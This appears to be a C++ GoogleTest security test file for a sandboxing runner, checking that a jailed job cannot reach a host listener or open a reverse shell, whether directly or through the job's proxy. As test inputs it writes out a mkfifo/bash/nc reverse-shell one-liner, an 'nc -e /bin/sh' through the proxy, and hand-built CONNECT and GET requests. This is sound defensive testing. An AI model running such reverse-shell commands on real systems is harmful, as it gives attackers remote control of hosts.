// Attacks on the job's network as the runner builds it (runner/network/JobNetwork): the jail joins
// the job's namespace, where only the job's proxy listens. A host listener stays unreachable by
// every address, directly and through the proxy, and reverse shells with nc fail.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <ifaddrs.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <filesystem>
#include <random>

#include "executor/namespace/namespace_executor.h"
#include "executor/namespace/test_root.h"
#include "tests/integration/require.h"
#include "tests/security/attack_backend.h"
#include "tests/security/jail_in_job_network.h"
#include "runner/base/temp_dir.h"
#include "runner/base/unique_fd.h"
#include "runner/network/job_network.h"
#include "tests/support/host_addresses.h"

namespace nixjail::executor {
namespace {

namespace fs = std::filesystem;

// A host service on 0.0.0.0 (a metrics port, a database) that must never see the job.
class AnyAddressListener {
  public:
    AnyAddressListener() : fd_(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0)) {
        sockaddr_in addr{};
        addr.sin_family = AF_INET;
        socklen_t len = sizeof addr;
        if (::bind(fd_.get(), reinterpret_cast<sockaddr*>(&addr), len) != 0 ||
            ::listen(fd_.get(), 16) != 0 ||
            ::getsockname(fd_.get(), reinterpret_cast<sockaddr*>(&addr), &len) != 0) {
            throw std::runtime_error("cannot listen on 0.0.0.0");
        }
        port_ = ntohs(addr.sin_port);
    }
    std::string port() const { return std::to_string(port_); }
    bool acceptedAnything() const {
        int c = ::accept4(fd_.get(), nullptr, nullptr, SOCK_CLOEXEC);
        if (c >= 0) ::close(c);
        return c >= 0;
    }

  private:
    base::UniqueFd fd_;
    int port_ = 0;
};

class JobNetworkAttack : public ::testing::Test {
  protected:
    void SetUp() override {
        NIXJAIL_REQUIRE_ATTACK_BACKEND();
        NIXJAIL_REQUIRE(::access("/usr/bin/nc.openbsd", X_OK) == 0, "needs nc (apt-get install netcat-openbsd)");
        job_ = std::make_unique<testing::JailInJobNetwork>(ns_, runner::network::NetworkSettings{},
                                                           "attack", dir_.path());
        network_ = &job_->network();
    }

    // Runs a shell command in the job's jail, with the job's proxy settings; returns its output.
    std::string sh(const std::string& command) {
        std::vector<std::string> env = {"PATH=/usr/bin:/bin", "HOME=/workspace"};
        for (const auto& [k, v] : network_->environment()) env.push_back(k + "=" + v);
        return job_->sh(command, env);
    }

    std::string proxy() const { return "127.0.0.1:" + std::to_string(network_->proxyPort()); }

    base::TempDir dir_{"nixjail-security-net-"};
    NamespaceExecutor ns_;  // the step's host ids, which both backends use by default
    std::unique_ptr<testing::JailInJobNetwork> job_;
    runner::network::JobNetwork* network_ = nullptr;
};

TEST_F(JobNetworkAttack, HostListenerIsUnreachableByIpDirectlyAndThroughTheProxy) {
    AnyAddressListener listener;
    for (const auto& ip : nixjail::tests::hostIPv4Addresses()) {
        const std::string target = ip + ":" + listener.port();
        auto direct = sh("nc.openbsd -z -w 3 " + ip + " " + listener.port() +
                         " && echo reached || echo refused");
        EXPECT_NE(direct.find("refused"), std::string::npos) << target << ": " << direct;
        EXPECT_EQ(direct.find("reached"), std::string::npos) << target << ": " << direct;
        // Asking the proxy for it: a CONNECT tunnel and a plain http request, both denied.
        auto tunnel = sh("printf 'CONNECT " + target + " HTTP/1.1\\r\\nHost: " + target +
                         "\\r\\n\\r\\n' | nc.openbsd -N -w 3 127.0.0.1 " +
                         std::to_string(network_->proxyPort()));
        EXPECT_NE(tunnel.find("HTTP/1.1 403"), std::string::npos) << target << ": " << tunnel;
        auto plain = sh("printf 'GET http://" + target + "/ HTTP/1.1\\r\\nHost: " + target +
                        "\\r\\nConnection: close\\r\\n\\r\\n' | nc.openbsd -N -w 3 127.0.0.1 " +
                        std::to_string(network_->proxyPort()));
        EXPECT_NE(plain.find("HTTP/1.1 403"), std::string::npos) << target << ": " << plain;
    }
    EXPECT_FALSE(listener.acceptedAnything());
    network_->stop();
    auto records = network_->takeAuditRecords();
    EXPECT_EQ(records.size(), 2 * nixjail::tests::hostIPv4Addresses().size());
    for (const auto& r : records) EXPECT_EQ(r.decision, proxy::PolicyDecision::kDeny) << r.host;
}

TEST_F(JobNetworkAttack, ReverseShellWithNcFailsDirectlyAndThroughTheProxy) {
    AnyAddressListener listener;
    for (const auto& ip : nixjail::tests::hostIPv4Addresses()) {
        auto direct =
            sh("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | bash -i 2>&1 | { nc.openbsd -v -w 3 " +
               ip + " " + listener.port() + " > /tmp/f; echo nc-exit=$? >&2; }");
        EXPECT_NE(direct.find("nc-exit=1"), std::string::npos) << ip << ": " << direct;
        EXPECT_TRUE(direct.find("Connection refused") != std::string::npos ||
                    direct.find("Network is unreachable") != std::string::npos)
            << ip << ": " << direct;
        auto viaProxy =
            sh("nc.openbsd -X connect -x " + proxy() + " -w 3 " + ip + " " + listener.port() +
               " -e /bin/sh 2>&1 < /dev/null; nc.openbsd -X connect -x " + proxy() + " -w 3 " + ip +
               " " + listener.port() + " < /dev/null; echo nc-exit=$?");
        EXPECT_NE(viaProxy.find("nc-exit=1"), std::string::npos) << ip << ": " << viaProxy;
        EXPECT_NE(viaProxy.find("403"), std::string::npos) << ip << ": " << viaProxy;
    }
    EXPECT_FALSE(listener.acceptedAnything());
}

}  // namespace
}  // namespace nixjail::executor
